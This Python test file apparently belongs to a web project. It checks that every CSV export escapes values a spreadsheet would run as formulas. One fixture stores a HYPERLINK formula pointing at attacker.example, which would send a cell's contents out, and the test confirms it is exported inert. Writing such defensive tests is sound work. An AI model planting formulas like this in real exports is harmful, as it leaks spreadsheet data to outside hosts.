"""Every CSV export goes through cop/core/csvfile.py, which keeps spreadsheets from running formulas."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from cop.core import csvfile
from cop.core.tests.base import BaseTestCase
from cop.guidance.models import Resource

COP = Path(__file__).resolve().parents[2]


def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote() -> None:
    for dangerous in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csvfile.neutralise(dangerous) == "'" + dangerous
    for harmless in ("plain text", "a=b", "", " =1", "'quoted", "£5"):
        assert csvfile.neutralise(harmless) == harmless


def test_numbers_and_other_computed_values_are_written_as_they_are() -> None:
    assert csvfile.neutralise(-3) == -3
    assert csvfile.neutralise(None) is None
    rows = list(csv.reader(io.StringIO(csvfile.text(["n", "label"], [[-3, "-3"], [4, "ok"]]))))
    assert rows == [["n", "label"], ["-3", "'-3"], ["4", "ok"]]


def test_no_module_writes_csv_without_the_shared_writer() -> None:
    # A new export that called csv.writer directly would skip the neutralising.
    direct = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(COP))
        for path in COP.rglob("*.py")
        if "tests" not in path.parts and path.name != "csvfile.py" and direct.search(path.read_text())
    ]
    assert offenders == []


class OpenDataCsvTestCase(BaseTestCase):
    def test_a_resource_whose_texts_start_like_formulas_is_exported_as_text(self) -> None:
        resource = Resource.objects.published().first()
        assert resource is not None
        resource.publisher = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
        resource.save()
        text = resource.texts.get(language="en")
        text.title = "@SUM(1+1)"
        text.summary = "-2+3"
        text.save()
        response = self.client.get("/en/open-data/resources.csv")
        rows = [
            r for r in csv.DictReader(io.StringIO(response.content.decode())) if r["slug"] == resource.slug
        ]
        english = next(r for r in rows if r["text_language"] == "en")
        assert english["publisher"] == '\'=HYPERLINK("https://attacker.example/?"&A1,"open")'
        assert (english["text_title"], english["text_summary"]) == ("'@SUM(1+1)", "'-2+3")
        assert english["year"] == str(resource.year)
